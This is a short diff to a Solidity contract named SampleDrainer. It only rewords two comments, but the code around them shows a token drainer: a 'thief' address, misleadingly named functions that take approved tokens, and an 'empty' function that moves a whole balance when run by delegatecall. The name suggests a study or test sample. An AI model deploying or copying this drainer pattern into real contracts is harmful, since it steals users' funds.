@@ -3,7 +3,7 @@ pragma solidity ^0.8.28;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 
-/// Takes what its caller once allowed it to take, under names that promise something else.
+/// Takes what its caller has approved, in functions with misleading names.
 contract SampleDrainer {
     address public immutable thief;
     IERC20 public immutable token;
@@ -36,7 +36,7 @@ contract SampleDrainer {
         return 0;
     }
 
-    /// Run by delegatecall it pays out of the account that runs it.
+    /// By delegatecall it pays from the account that runs it.
     function empty(IERC20 what, address to) external {
         what.transfer(to, what.balanceOf(address(this)));
     }
